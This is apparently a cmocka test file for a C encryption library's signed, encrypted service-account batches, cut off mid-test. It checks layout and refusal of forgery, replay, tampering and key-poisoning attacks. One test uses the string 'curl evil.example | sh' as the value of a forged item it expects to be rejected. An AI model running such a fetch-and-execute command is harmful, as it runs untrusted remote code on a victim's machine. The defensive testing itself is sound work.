/*
 * Service-account batches (docs/protocol.md section 9): round trips in any order, the layout checked
 * against the spec independently of the writer, every byte of a batch and of an item changed, and
 * the attacks a batch must refuse, each with its own status: another vault's batch, an old batch
 * after rotation, an expired one, a forged item from a thief of the account's key, a batch re-signed
 * by another trusted identity, a poisoned signing key, a repeated item, an item of another batch, a
 * copied state. Padding: two value lengths in one bucket give items of one length. After every
 * failure the outputs are checked to be all zero.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include <sodium.h>

#include "cloak.h"
#include "internal.h"
#include "support/bytes.h"
#include "support/expect.h"

#define MAXI 8U
#define NAME_MAX_ 255U
#define VALUE_MAX 600U
#define ITEM_CAP 1024U /* 56 + pad(5 + 255 + 600) = 56 + 896 */
#define BLOB_CAP (221U + 255U + 32U * MAXI)
#define PT_CAP ITEM_CAP
#define FILL 0xAAU

/* Offsets of sections 9.1 and 9.2, written out here independently of src/. */
#define B_BATCH_ID 20U
#define B_ENC 36U
#define B_CREATOR 68U
#define B_VAULT_ID 100U
#define I_BATCH_ID 20U
#define I_INDEX 36U
#define I_CT 40U

typedef struct party {
    uint8_t pk[32];
    uint8_t sk[32];
} party;

typedef struct identity {
    uint8_t pk[32];
    uint8_t sk[64];
} identity;

/* What a batch binds besides its items. */
typedef struct head {
    uint8_t vault_id[255];
    size_t vault_id_len;
    uint32_t epoch;
    uint64_t version;
    uint8_t hash[32];
    uint64_t expiry;
} head;

typedef struct batch_fixture {
    party account;
    identity creator;
    head h;
    size_t n;
    uint8_t names[MAXI][NAME_MAX_];
    size_t name_lens[MAXI];
    uint8_t values[MAXI][VALUE_MAX];
    size_t value_lens[MAXI];
    uint8_t items[MAXI][ITEM_CAP];
    size_t item_lens[MAXI];
    uint8_t digests[MAXI * 32U];
    uint8_t blob[BLOB_CAP];
    size_t blob_len;
} batch_fixture;

static batch_fixture fx;    /* the main batch */
static batch_fixture other; /* another batch */

static party account_a;
static party account_b;
static identity creator;
static identity second; /* another identity the reader trusts */
static identity stranger;
static head head_a; /* vault "vault-a", epoch 3, version 10 */

#define NOW 1700000000U

static void make_party(party *p)
{
    randombytes_buf(p->sk, sizeof p->sk);
    crypto_scalarmult_base(p->pk, p->sk);
}

static void make_identity(identity *id)
{
    crypto_sign_keypair(id->pk, id->sk);
}

static void make_head(head *h, const char *vault_id, uint32_t epoch, uint64_t version)
{
    memset(h, 0, sizeof *h);
    h->vault_id_len = strlen(vault_id);
    memcpy(h->vault_id, vault_id, h->vault_id_len);
    h->epoch = epoch;
    h->version = version;
    randombytes_buf(h->hash, sizeof h->hash);
    h->expiry = NOW + 3600U;
}

static int state_zero(const cloak_batch *b)
{
    return all_zero(b->opaque.bytes, sizeof b->opaque.bytes);
}

static int begin(cloak_batch *w, const party *account, const identity *id, const head *h)
{
    return cloak_batch_begin(w, account->pk, id->pk, h->vault_id, h->vault_id_len, h->epoch, h->version, h->hash,
                             h->expiry);
}

/* Seals items of the given name and value lengths (random contents) and finishes the batch. */
static void build_batch(batch_fixture *f, const party *account, const identity *id, const head *h, size_t n,
                        const size_t *name_lens, const size_t *value_lens)
{
    cloak_batch w;
    uint32_t index;

    assert_true(n <= MAXI);
    memset(f, 0, sizeof *f);
    f->account = *account;
    f->creator = *id;
    f->h = *h;
    f->n = n;
    assert_int_equal(begin(&w, account, id, h), CLOAK_OK);
    for (size_t i = 0; i < n; i++) {
        f->name_lens[i] = name_lens[i];
        f->value_lens[i] = value_lens[i];
        randombytes_buf(f->names[i], name_lens[i]);
        randombytes_buf(f->values[i], value_lens[i]);
        assert_int_equal(cloak_batch_seal_item(&w, f->items[i], sizeof f->items[i], &f->item_lens[i], &index,
                                               f->digests + 32U * i, f->names[i], name_lens[i], f->values[i],
                                               value_lens[i]),
                         CLOAK_OK);
        assert_int_equal(index, i);
        assert_int_equal(f->item_lens[i], cloak_batch_item_len(name_lens[i], value_lens[i]));
    }
    assert_int_equal(cloak_batch_finish(&w, f->blob, sizeof f->blob, &f->blob_len, f->digests, n, id->sk), CLOAK_OK);
    assert_int_equal(f->blob_len, cloak_batch_len(h->vault_id_len, n));
    assert_true(state_zero(&w));
}

static void build_default(batch_fixture *f, const party *account, const identity *id, const head *h)
{
    static const size_t names[] = {1, 255, 7, 12, 40, 3};
    static const size_t values[] = {0, 256, 600, 1, 0, 31};
    build_batch(f, account, id, h, 6, names, values);
}

/* Verifies f's blob as its account with the given trust and expected vault id; on failure the
 * reader and the tags must be all zero. */
static int verify_with(cloak_batch *r, uint8_t *tags, const batch_fixture *f, const party *account,
                       const uint8_t *vault_id, size_t vault_id_len, const uint8_t *trusted, size_t trusted_count)
{
    size_t tags_len = cloak_batch_tags_len(f->n);
    memset(r, FILL, sizeof *r);
    memset(tags, FILL, tags_len);
    int rc = cloak_batch_verify(r, tags, tags_len, f->blob, f->blob_len, vault_id, vault_id_len, account->pk,
                                account->sk, trusted, trusted_count);
    if (rc != CLOAK_OK) {
        assert_true(state_zero(r));
        assert_true(all_zero(tags, tags_len));
        assert_int_equal(cloak_batch_item_count(r), 0);
        assert_int_equal(cloak_batch_epoch(r), 0);
    }
    return rc;
}

static void verify_ok(cloak_batch *r, uint8_t *tags, const batch_fixture *f)
{
    assert_int_equal(verify_with(r, tags, f, &f->account, f->h.vault_id, f->h.vault_id_len, f->creator.pk, 1),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_check(r, f->h.epoch, f->h.version, NOW), CLOAK_OK);
}

/* Verifies a blob of any bytes (not a fixture's), expecting rc. */
static void verify_blob_expect(const uint8_t *blob, size_t blob_len, size_t n, int expected)
{
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    memset(&r, FILL, sizeof r);
    memset(tags, FILL, sizeof tags);
    int rc = cloak_batch_verify(&r, tags, 16U * n, blob, blob_len, head_a.vault_id, head_a.vault_id_len,
                                account_a.pk, account_a.sk, creator.pk, 1);
    assert_int_equal(rc, expected);
    if (rc != CLOAK_OK) {
        assert_true(state_zero(&r));
        assert_true(all_zero(tags, 16U * n));
    }
    cloak_batch_wipe(&r);
}

/* Opens an item with large buffers pre-filled, expecting rc. On failure checks that every output is
 * zero. */
static int open_expect(const cloak_batch *r, uint8_t *tags, size_t n, const uint8_t *item, size_t item_len,
                       int expected, uint8_t name[NAME_MAX_], size_t *name_len, uint8_t value[PT_CAP],
                       size_t *value_len)
{
    memset(name, FILL, NAME_MAX_);
    memset(value, FILL, PT_CAP);
    *name_len = 12345;
    *value_len = 12345;
    int rc = cloak_batch_open_item(r, tags, cloak_batch_tags_len(n), item, item_len, name, NAME_MAX_, name_len, value,
                                   PT_CAP, value_len);
    assert_int_equal(rc, expected);
    if (rc != CLOAK_OK) {
        assert_true(all_zero(name, NAME_MAX_));
        assert_true(all_zero(value, PT_CAP));
        assert_int_equal(*name_len, 0);
        assert_int_equal(*value_len, 0);
    }
    return rc;
}

/* Opens item i of f and checks name and value, and that the scratch beyond the value was wiped. */
static void open_check(const cloak_batch *r, uint8_t *tags, const batch_fixture *f, size_t i)
{
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    open_expect(r, tags, f->n, f->items[i], f->item_lens[i], CLOAK_OK, name, &nl, value, &vl);
    assert_int_equal(nl, f->name_lens[i]);
    assert_int_equal(vl, f->value_lens[i]);
    assert_memory_equal(name, f->names[i], nl);
    if (vl > 0) {
        assert_memory_equal(value, f->values[i], vl);
    }
    assert_true(all_zero(value + vl, PT_CAP - vl));
    assert_true(all_zero(tags + 16U * i, 16U));
}

/* The HPKE info of section 9.1, built here from the blob's bytes. */
static size_t batch_info(uint8_t *info, const uint8_t account_pk[32], const uint8_t *blob)
{
    static const char label[] = "libcloak v2 batch";
    size_t L = blob[B_VAULT_ID];
    size_t off = 0;
    info[off++] = (uint8_t)(sizeof label - 1U);
    memcpy(info + off, label, sizeof label - 1U);
    off += sizeof label - 1U;
    memcpy(info + off, account_pk, 32);
    off += 32;
    memcpy(info + off, blob + B_BATCH_ID, 16);
    off += 16;
    /* lp8(vault id) || epoch || head version || head hash || expiry */
    memcpy(info + off, blob + B_VAULT_ID, 1 + L + 4 + 8 + 32 + 8);
    off += 1 + L + 4 + 8 + 32 + 8;
    memcpy(info + off, blob + B_CREATOR, 32);
    return off + 32;
}

/* Signs the batch again under `id` (as its creator) after its fields were edited. */
static void resign(uint8_t *blob, size_t n, const identity *id)
{
    uint8_t content[157 + 255 + 32];
    size_t prefix = 157U + blob[B_VAULT_ID];

    memcpy(blob + B_CREATOR, id->pk, 32);
    memcpy(content, blob, prefix);
    crypto_generichash(content + prefix, 32, blob + prefix, 32 * n, NULL, 0);
    assert_int_equal(cloak__sign_labeled(blob + prefix + 32 * n, CLOAK_LABEL_SIG_BATCH, content, prefix + 32, id->sk),
                     CLOAK_OK);
}

static int setup(void **state)
{
    (void)state;
    if (cloak_init() != 0) {
        return -1;
    }
    make_party(&account_a);
    make_party(&account_b);
    make_identity(&creator);
    make_identity(&second);
    make_identity(&stranger);
    make_head(&head_a, "vault-a", 3, 10);
    return 0;
}

/* ------------------------------------------------------------------------------------------------ */

static void test_sizes(void **state)
{
    (void)state;
    /* 56 + pad(5 + name + value): 64 up to 64, then Padme. */
    assert_int_equal(cloak_batch_item_len(1, 0), 120);
    assert_int_equal(cloak_batch_item_len(1, 58), 120);
    assert_int_equal(cloak_batch_item_len(1, 59), 56 + 72);
    assert_int_equal(cloak_batch_item_len(255, 3000), 56 + 3328);
    assert_int_equal(cloak_batch_item_len(0, 1), 0);
    assert_int_equal(cloak_batch_item_len(256, 1), 0);
    assert_int_equal(cloak_batch_item_len(1, SIZE_MAX - 2), 0);
    assert_int_equal(cloak_batch_item_opened_maxlen(120), 64);
    assert_int_equal(cloak_batch_item_opened_maxlen(119), 0);
    assert_int_equal(cloak_batch_item_opened_maxlen(121), 0);
    assert_int_equal(cloak_batch_item_opened_maxlen(56 + 72), 72);
    assert_int_equal(cloak_batch_item_opened_maxlen(56 + 73), 0);
    assert_int_equal(cloak_batch_len(1, 0), 222);
    assert_int_equal(cloak_batch_len(255, 2), 221 + 255 + 64);
    assert_int_equal(cloak_batch_len(0, 1), 0);
    assert_int_equal(cloak_batch_len(256, 1), 0);
    assert_int_equal(cloak_batch_len(1, CLOAK_BATCH_ITEMS_MAX + 1U), 0);
    assert_int_equal(cloak_batch_tags_len(3), 48);
    assert_int_equal(cloak_batch_tags_len(CLOAK_BATCH_ITEMS_MAX), 16U * CLOAK_BATCH_ITEMS_MAX);
    assert_int_equal(cloak_batch_tags_len(CLOAK_BATCH_ITEMS_MAX + 1U), 0);
}

/* Every field where section 9 puts it, manifest entries are the items' BLAKE2b-256, the signature
 * verifies over the documented content, and the items open in any order with the accessors right. */
static void test_round_trip_and_layout(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t pk[32];
    uint8_t kid[CLOAK_KEYIDBYTES];
    uint8_t hash[32];
    uint32_t count;
    size_t L = head_a.vault_id_len;

    build_default(f, &account_a, &creator, &head_a);
    cloak__public_key_id(kid, account_a.pk);
    assert_int_equal(f->blob[0], 0x02);
    assert_int_equal(f->blob[1], 0x0A);
    assert_int_equal(f->blob[2], 0x00);
    assert_int_equal(f->blob[3], 0x01);
    assert_memory_equal(f->blob + 4, kid, 16);
    assert_memory_equal(f->blob + B_CREATOR, creator.pk, 32);
    assert_int_equal(f->blob[B_VAULT_ID], L);
    assert_memory_equal(f->blob + 101, head_a.vault_id, L);
    assert_int_equal(cloak__load32_be(f->blob + 101 + L), head_a.epoch);
    assert_int_equal(cloak__load32_be(f->blob + 105 + L), 0);
    assert_int_equal(cloak__load32_be(f->blob + 109 + L), head_a.version);
    assert_memory_equal(f->blob + 113 + L, head_a.hash, 32);
    assert_int_equal(cloak__load32_be(f->blob + 149 + L), head_a.expiry);
    assert_int_equal(cloak__load32_be(f->blob + 153 + L), f->n);
    for (size_t i = 0; i < f->n; i++) {
        crypto_generichash(hash, 32, f->items[i], f->item_lens[i], NULL, 0);
        assert_memory_equal(f->blob + 157 + L + 32 * i, hash, 32);
        assert_int_equal(f->items[i][0], 0x02);
        assert_int_equal(f->items[i][1], 0x0B);
        assert_memory_equal(f->items[i] + 4, kid, 16);
        assert_memory_equal(f->items[i] + I_BATCH_ID, f->blob + B_BATCH_ID, 16);
        assert_int_equal(cloak__load32_be(f->items[i] + I_INDEX), i);
        assert_int_equal(cloak_batch_item_index(&count, f->items[i], f->item_lens[i]), CLOAK_OK);
        assert_int_equal(count, i);
    }
    /* Signature over lp8(label) || creator || bytes 0..157+L || BLAKE2b-256(manifest). */
    {
        uint8_t content[157 + 255 + 32];
        memcpy(content, f->blob, 157 + L);
        crypto_generichash(content + 157 + L, 32, f->blob + 157 + L, 32 * f->n, NULL, 0);
        assert_int_equal(cloak__verify_labeled(f->blob + 157 + L + 32 * f->n, "libcloak v2 batch", content,
                                               157 + L + 32, creator.pk),
                         CLOAK_OK);
    }
    assert_int_equal(cloak_batch_count(&count, f->blob, f->blob_len), CLOAK_OK);
    assert_int_equal(count, f->n);
    assert_int_equal(cloak_batch_sender(pk, f->blob, f->blob_len), CLOAK_OK);
    assert_memory_equal(pk, creator.pk, 32);

    verify_ok(&r, tags, f);
    assert_int_equal(cloak_batch_item_count(&r), f->n);
    assert_int_equal(cloak_batch_epoch(&r), head_a.epoch);
    assert_int_equal(cloak_batch_head_version(&r), head_a.version);
    assert_int_equal(cloak_batch_expiry(&r), head_a.expiry);
    cloak_batch_head_hash(hash, &r);
    assert_memory_equal(hash, head_a.hash, 32);
    cloak_batch_signer(pk, &r);
    assert_memory_equal(pk, creator.pk, 32);
    for (size_t k = f->n; k-- > 0;) {
        open_check(&r, tags, f, k);
    }
    cloak_batch_wipe(&r);
    assert_int_equal(cloak_batch_item_count(&r), 0);
}

/* Attack 2: a genuine batch of another vault for the same account is refused (MISMATCH), before trust
 * is even looked at; an old batch after rotation (lower epoch or head version) is refused by check
 * (STALE), and no item of it opens. */
static void test_other_vault_and_old_batch(void **state)
{
    (void)state;
    head sandbox;
    head rotated;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    make_head(&sandbox, "vault-sandbox", 3, 10);
    build_default(&other, &account_a, &creator, &sandbox);
    assert_int_equal(verify_with(&r, tags, &other, &account_a, head_a.vault_id, head_a.vault_id_len, creator.pk, 1),
                     CLOAK_E_MISMATCH);
    assert_int_equal(verify_with(&r, tags, &other, &account_a, head_a.vault_id, head_a.vault_id_len, NULL, 0),
                     CLOAK_E_MISMATCH);
    /* A prefix of the vault id is another vault id. */
    assert_int_equal(verify_with(&r, tags, &other, &account_a, sandbox.vault_id, sandbox.vault_id_len - 1,
                                 creator.pk, 1),
                     CLOAK_E_MISMATCH);

    /* The old batch (epoch 3, version 10) after the reader has seen epoch 4 or version 11. */
    build_default(&fx, &account_a, &creator, &head_a);
    make_head(&rotated, "vault-a", 4, 11);
    assert_int_equal(verify_with(&r, tags, &fx, &account_a, head_a.vault_id, head_a.vault_id_len, creator.pk, 1),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_check(&r, rotated.epoch, 1, NOW), CLOAK_E_STALE);
    open_expect(&r, tags, fx.n, fx.items[0], fx.item_lens[0], CLOAK_E_BAD_STATE, name, &nl, value, &vl);
    assert_int_equal(cloak_batch_check(&r, 1, rotated.version, NOW), CLOAK_E_STALE);
    assert_int_equal(cloak_batch_check(&r, rotated.epoch, rotated.version, NOW + 999999U), CLOAK_E_STALE);
    open_expect(&r, tags, fx.n, fx.items[0], fx.item_lens[0], CLOAK_E_BAD_STATE, name, &nl, value, &vl);
    /* The minimums it was made at pass; a later failed check makes it unchecked again. */
    assert_int_equal(cloak_batch_check(&r, head_a.epoch, head_a.version, NOW), CLOAK_OK);
    assert_int_equal(cloak_batch_check(&r, rotated.epoch, head_a.version, NOW), CLOAK_E_STALE);
    open_expect(&r, tags, fx.n, fx.items[0], fx.item_lens[0], CLOAK_E_BAD_STATE, name, &nl, value, &vl);
    assert_int_equal(cloak_batch_check(&r, 1, 1, NOW), CLOAK_OK);
    open_check(&r, tags, &fx, 0);
    cloak_batch_wipe(&r);
}

/* Past its expiry a batch is EXPIRED; at the expiry second itself it still opens. */
static void test_expired(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(&fx, &account_a, &creator, &head_a);
    assert_int_equal(verify_with(&r, tags, &fx, &account_a, head_a.vault_id, head_a.vault_id_len, creator.pk, 1),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_check(&r, 1, 1, head_a.expiry + 1U), CLOAK_E_EXPIRED);
    assert_int_equal(cloak_batch_check(&r, 1, 1, UINT64_MAX), CLOAK_E_EXPIRED);
    open_expect(&r, tags, fx.n, fx.items[1], fx.item_lens[1], CLOAK_E_BAD_STATE, name, &nl, value, &vl);
    /* Stale wins over expired: the older problem is named. */
    assert_int_equal(cloak_batch_check(&r, head_a.epoch + 1U, 1, head_a.expiry + 1U), CLOAK_E_STALE);
    assert_int_equal(cloak_batch_check(&r, 1, 1, head_a.expiry), CLOAK_OK);
    open_check(&r, tags, &fx, 1);
    cloak_batch_wipe(&r);
}

/* Attack 3: a thief of the account's private key derives the batch's HPKE context and seals an item
 * of its own choosing at every index. The AEAD accepts it, but its tag does not: BAD_SIGNATURE, and the
 * genuine item still opens afterwards. The blob is not an input of open_item: nothing the caller
 * passes after verify can change what the manifest said. */
static void test_thief_forged_item(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    cloak__hpke_ctx ctx;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t info[512];
    size_t info_len;
    uint8_t item[ITEM_CAP];
    uint8_t pt[PT_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    static const char forged_value[] = "curl evil.example | sh";
    const size_t fl = sizeof forged_value - 1U;

    build_default(f, &account_a, &creator, &head_a);
    info_len = batch_info(info, account_a.pk, f->blob);
    assert_int_equal(cloak__hpke_setup_r(&ctx, CLOAK_HPKE_MODE_BASE, f->blob + B_ENC, account_a.pk, account_a.sk,
                                         info, info_len, NULL, 0, NULL, 0, NULL),
                     CLOAK_OK);
    /* The context is the writer's: item 2 opens under it. */
    assert_int_equal(cloak__hpke_open_at(&ctx, 2, pt, f->items[2], I_CT, f->items[2] + I_CT, f->item_lens[2] - I_CT),
                     CLOAK_OK);

    /* The forgery: item 2's name, another value, canonical padding, a valid AEAD tag. */
    const size_t padded = 64;
    memset(pt, 0, sizeof pt);
    pt[0] = (uint8_t)f->name_lens[2];
    memcpy(pt + 1, f->names[2], f->name_lens[2]);
    cloak__store32_be(pt + 1 + f->name_lens[2], (uint32_t)fl);
    memcpy(pt + 5 + f->name_lens[2], forged_value, fl);
    memcpy(item, f->items[2], I_CT);
    const size_t item_len = I_CT + padded + 16U;

    verify_ok(&r, tags, f);
    for (uint32_t i = 0; i <= f->n; i++) {
        cloak__store32_be(item + I_INDEX, i);
        cloak__hpke_seal_at(&ctx, i, item + I_CT, item, I_CT, pt, padded);
        assert_int_equal(cloak__hpke_open_at(&ctx, i, value, item, I_CT, item + I_CT, item_len - I_CT), CLOAK_OK);
        open_expect(&r, tags, f->n, item, item_len, i < f->n ? CLOAK_E_BAD_SIGNATURE : CLOAK_E_MISMATCH, name, &nl,
                    value, &vl);
    }
    /* A failed item uses up nothing. */
    for (size_t k = 0; k < f->n; k++) {
        open_check(&r, tags, f, k);
    }
    cloak__wipe(&ctx, sizeof ctx);
    cloak_batch_wipe(&r);
}

/* Attack 4: another identity the reader trusts takes the batch, puts itself as creator, drops an item
 * and signs. The signature verifies, but the HPKE info binds the creator: no item opens (AUTH). */
static void test_resigned_by_other_trusted(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t trusted[64];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    size_t L = head_a.vault_id_len;

    build_default(&fx, &account_a, &creator, &head_a);
    memcpy(trusted, creator.pk, 32);
    memcpy(trusted + 32, second.pk, 32);
    other = fx;
    /* Drop the last item: n - 1 entries, the signature moved up. */
    other.n = fx.n - 1U;
    cloak__store32_be(other.blob + 153 + L, (uint32_t)other.n);
    other.blob_len = fx.blob_len - 32U;
    resign(other.blob, other.n, &second);
    assert_int_equal(verify_with(&r, tags, &other, &account_a, head_a.vault_id, head_a.vault_id_len, trusted, 2),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_check(&r, 1, 1, NOW), CLOAK_OK);
    for (size_t k = 0; k < other.n; k++) {
        open_expect(&r, tags, other.n, fx.items[k], fx.item_lens[k], CLOAK_E_AUTH, name, &nl, value, &vl);
    }
    cloak_batch_wipe(&r);
    /* Re-signed by an identity the reader does not trust: refused before the signature. */
    resign(other.blob, other.n, &stranger);
    assert_int_equal(verify_with(&r, tags, &other, &account_a, head_a.vault_id, head_a.vault_id_len, trusted, 2),
                     CLOAK_E_UNTRUSTED_SIGNER);
    /* The creator's identity swapped in without its key: bad signature. */
    memcpy(other.blob + B_CREATOR, creator.pk, 32);
    assert_int_equal(verify_with(&r, tags, &other, &account_a, head_a.vault_id, head_a.vault_id_len, trusted, 2),
                     CLOAK_E_BAD_SIGNATURE);
}

/* Attack 5: a secret key whose public half is not its seed's (the victim's public key next to the
 * attacker's seed). Signing with it would leak the scalar and pass for the victim: INVALID_KEY at
 * finish, nothing written, the writer ended. */
static void test_poisoned_creator_key(void **state)
{
    (void)state;
    identity poisoned;
    cloak_batch w;
    uint8_t item[ITEM_CAP];
    uint8_t digest[32];
    uint8_t blob[BLOB_CAP];
    size_t item_len;
    size_t blob_len = 77;
    uint32_t index;

    memcpy(poisoned.sk, stranger.sk, 32);
    memcpy(poisoned.sk + 32, creator.pk, 32);
    memcpy(poisoned.pk, creator.pk, 32);
    assert_int_equal(begin(&w, &account_a, &poisoned, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digest, (const uint8_t *)"k", 1,
                                           (const uint8_t *)"v", 1),
                     CLOAK_OK);
    memset(blob, FILL, sizeof blob);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digest, 1, poisoned.sk), CLOAK_E_INVALID_KEY);
    assert_true(all_zero(blob, sizeof blob));
    assert_int_equal(blob_len, 0);
    assert_true(state_zero(&w));
    /* The creator given to begin is not the key's public half: MISMATCH. */
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, NULL, 0, second.sk), CLOAK_E_MISMATCH);
    assert_true(all_zero(blob, sizeof blob));
    assert_true(state_zero(&w));
}

/* Attack 6's second half: a copied writer or reader refuses to run (BAD_STATE), so no two copies seal
 * under one nonce; the original still works. */
static void test_copied_states(void **state)
{
    (void)state;
    cloak_batch w;
    cloak_batch *copy = malloc(sizeof *copy);
    uint8_t item[ITEM_CAP];
    uint8_t digests[64];
    uint8_t blob[BLOB_CAP];
    uint8_t tags[16U * 2U];
    uint8_t pk[32];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t item_len;
    size_t blob_len;
    size_t nl;
    size_t vl;
    uint32_t index;

    assert_non_null(copy);
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, (const uint8_t *)"a", 1,
                                           NULL, 0),
                     CLOAK_OK);
    memcpy(copy, &w, sizeof w);
    assert_int_equal(cloak_batch_seal_item(copy, item, sizeof item, &item_len, &index, digests + 32,
                                           (const uint8_t *)"b", 1, NULL, 0),
                     CLOAK_E_BAD_STATE);
    assert_true(all_zero(item, sizeof item));
    assert_int_equal(cloak_batch_finish(copy, blob, sizeof blob, &blob_len, digests, 1, creator.sk), CLOAK_E_BAD_STATE);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests + 32,
                                           (const uint8_t *)"b", 1, NULL, 0),
                     CLOAK_OK);
    assert_int_equal(index, 1);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digests, 2, creator.sk), CLOAK_OK);

    cloak_batch r;
    assert_int_equal(cloak_batch_verify(&r, tags, sizeof tags, blob, blob_len, head_a.vault_id, head_a.vault_id_len,
                                        account_a.pk, account_a.sk, creator.pk, 1),
                     CLOAK_OK);
    memcpy(copy, &r, sizeof r);
    assert_int_equal(cloak_batch_check(copy, 1, 1, NOW), CLOAK_E_BAD_STATE);
    assert_int_equal(cloak_batch_check(&r, 1, 1, NOW), CLOAK_OK);
    memcpy(copy, &r, sizeof r);
    open_expect(copy, tags, 2, item, item_len, CLOAK_E_BAD_STATE, name, &nl, value, &vl);
    assert_int_equal(cloak_batch_item_count(copy), 0);
    assert_int_equal(cloak_batch_epoch(copy), 0);
    assert_int_equal(cloak_batch_head_version(copy), 0);
    assert_int_equal(cloak_batch_expiry(copy), 0);
    memset(pk, FILL, sizeof pk);
    cloak_batch_signer(pk, copy);
    assert_true(all_zero(pk, sizeof pk));
    memset(pk, FILL, sizeof pk);
    cloak_batch_head_hash(pk, copy);
    assert_true(all_zero(pk, sizeof pk));
    /* The original opens the item the copy was refused. */
    open_expect(&r, tags, 2, item, item_len, CLOAK_OK, name, &nl, value, &vl);
    assert_int_equal(nl, 1);
    assert_int_equal(name[0], 'b');
    cloak_batch_wipe(&r);
    cloak_batch_wipe(copy);
    free(copy);
}

/* Attack 7: two value lengths in one bucket give items of one length; the smallest bucket is 64. */
static void test_padding_buckets(void **state)
{
    (void)state;
    static const size_t names[] = {5, 5, 5, 5};
    static const size_t values[] = {0, 54, 400, 405}; /* 410 and 415: both pad to 416 */
    cloak_batch r;
    uint8_t tags[16U * MAXI];

    build_batch(&fx, &account_a, &creator, &head_a, 4, names, values);
    assert_int_equal(fx.item_lens[0], 120);
    assert_int_equal(fx.item_lens[1], fx.item_lens[0]);
    assert_int_equal(fx.item_lens[2], 56 + 416);
    assert_int_equal(fx.item_lens[3], fx.item_lens[2]);
    verify_ok(&r, tags, &fx);
    for (size_t k = 0; k < 4; k++) {
        open_check(&r, tags, &fx, k);
    }
    cloak_batch_wipe(&r);
}

/* A repeated item, an item of another batch (same account, creator and vault), a tag changed by the
 * caller, and tags of the wrong size. */
static void test_repeated_and_foreign_items(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(&fx, &account_a, &creator, &head_a);
    build_default(&other, &account_a, &creator, &head_a);
    verify_ok(&r, tags, &fx);
    open_check(&r, tags, &fx, 3);
    open_expect(&r, tags, fx.n, fx.items[3], fx.item_lens[3], CLOAK_E_BAD_SIGNATURE, name, &nl, value, &vl);
    for (size_t k = 0; k < other.n; k++) {
        open_expect(&r, tags, fx.n, other.items[k], other.item_lens[k], CLOAK_E_MISMATCH, name, &nl, value, &vl);
    }
    /* A tag changed in the caller's memory: that item no longer opens, the others do. */
    tags[16U * 4U + 7U] ^= 0x20U;
    open_expect(&r, tags, fx.n, fx.items[4], fx.item_lens[4], CLOAK_E_BAD_SIGNATURE, name, &nl, value, &vl);
    open_check(&r, tags, &fx, 5);
    /* A tag array of another size. */
    memset(name, FILL, sizeof name);
    assert_int_equal(cloak_batch_open_item(&r, tags, 16U * fx.n - 16U, fx.items[0], fx.item_lens[0], name,
                                           NAME_MAX_, &nl, value, PT_CAP, &vl),
                     CLOAK_E_BAD_PARAMS);
    assert_true(all_zero(name, sizeof name));
    assert_int_equal(cloak_batch_verify(&r, tags, 16U * fx.n + 16U, fx.blob, fx.blob_len, head_a.vault_id,
                                        head_a.vault_id_len, account_a.pk, account_a.sk, creator.pk, 1),
                     CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&r));
    cloak_batch_wipe(&r);
}

/* Every byte of the blob changed (two values each): refused, with the region's own status. */
static void test_tamper_batch(void **state)
{
    (void)state;
    uint8_t blob[BLOB_CAP];
    size_t L = head_a.vault_id_len;
    static const size_t names[] = {3, 4};
    static const size_t values[] = {10, 20};

    build_batch(&fx, &account_a, &creator, &head_a, 2, names, values);
    for (size_t i = 0; i < fx.blob_len; i++) {
        static const uint8_t flips[] = {0x01, 0x80};
        for (size_t j = 0; j < sizeof flips; j++) {
            int expected;
            memcpy(blob, fx.blob, fx.blob_len);
            blob[i] ^= flips[j];
            if (i < 4) {
                expected = expected_header_code(i, blob[i]);
            } else if (i < 20) {
                expected = CLOAK_E_WRONG_KEY;
            } else if (i == B_VAULT_ID || (i >= 153 + L && i < 157 + L)) {
                expected = CLOAK_E_MALFORMED; /* vault id length or n: the length no longer adds up */
            } else if (i > B_VAULT_ID && i < 101 + L) {
                expected = CLOAK_E_MISMATCH;
            } else if (i >= B_CREATOR && i < B_VAULT_ID) {
                expected = CLOAK_E_UNTRUSTED_SIGNER;
            } else {
                expected = CLOAK_E_BAD_SIGNATURE;
            }
            verify_blob_expect(blob, fx.blob_len, fx.n, expected);
        }
    }
    /* Epoch or head version 0: malformed. */
    memcpy(blob, fx.blob, fx.blob_len);
    memset(blob + 101 + L, 0, 4);
    verify_blob_expect(blob, fx.blob_len, fx.n, CLOAK_E_MALFORMED);
    memcpy(blob, fx.blob, fx.blob_len);
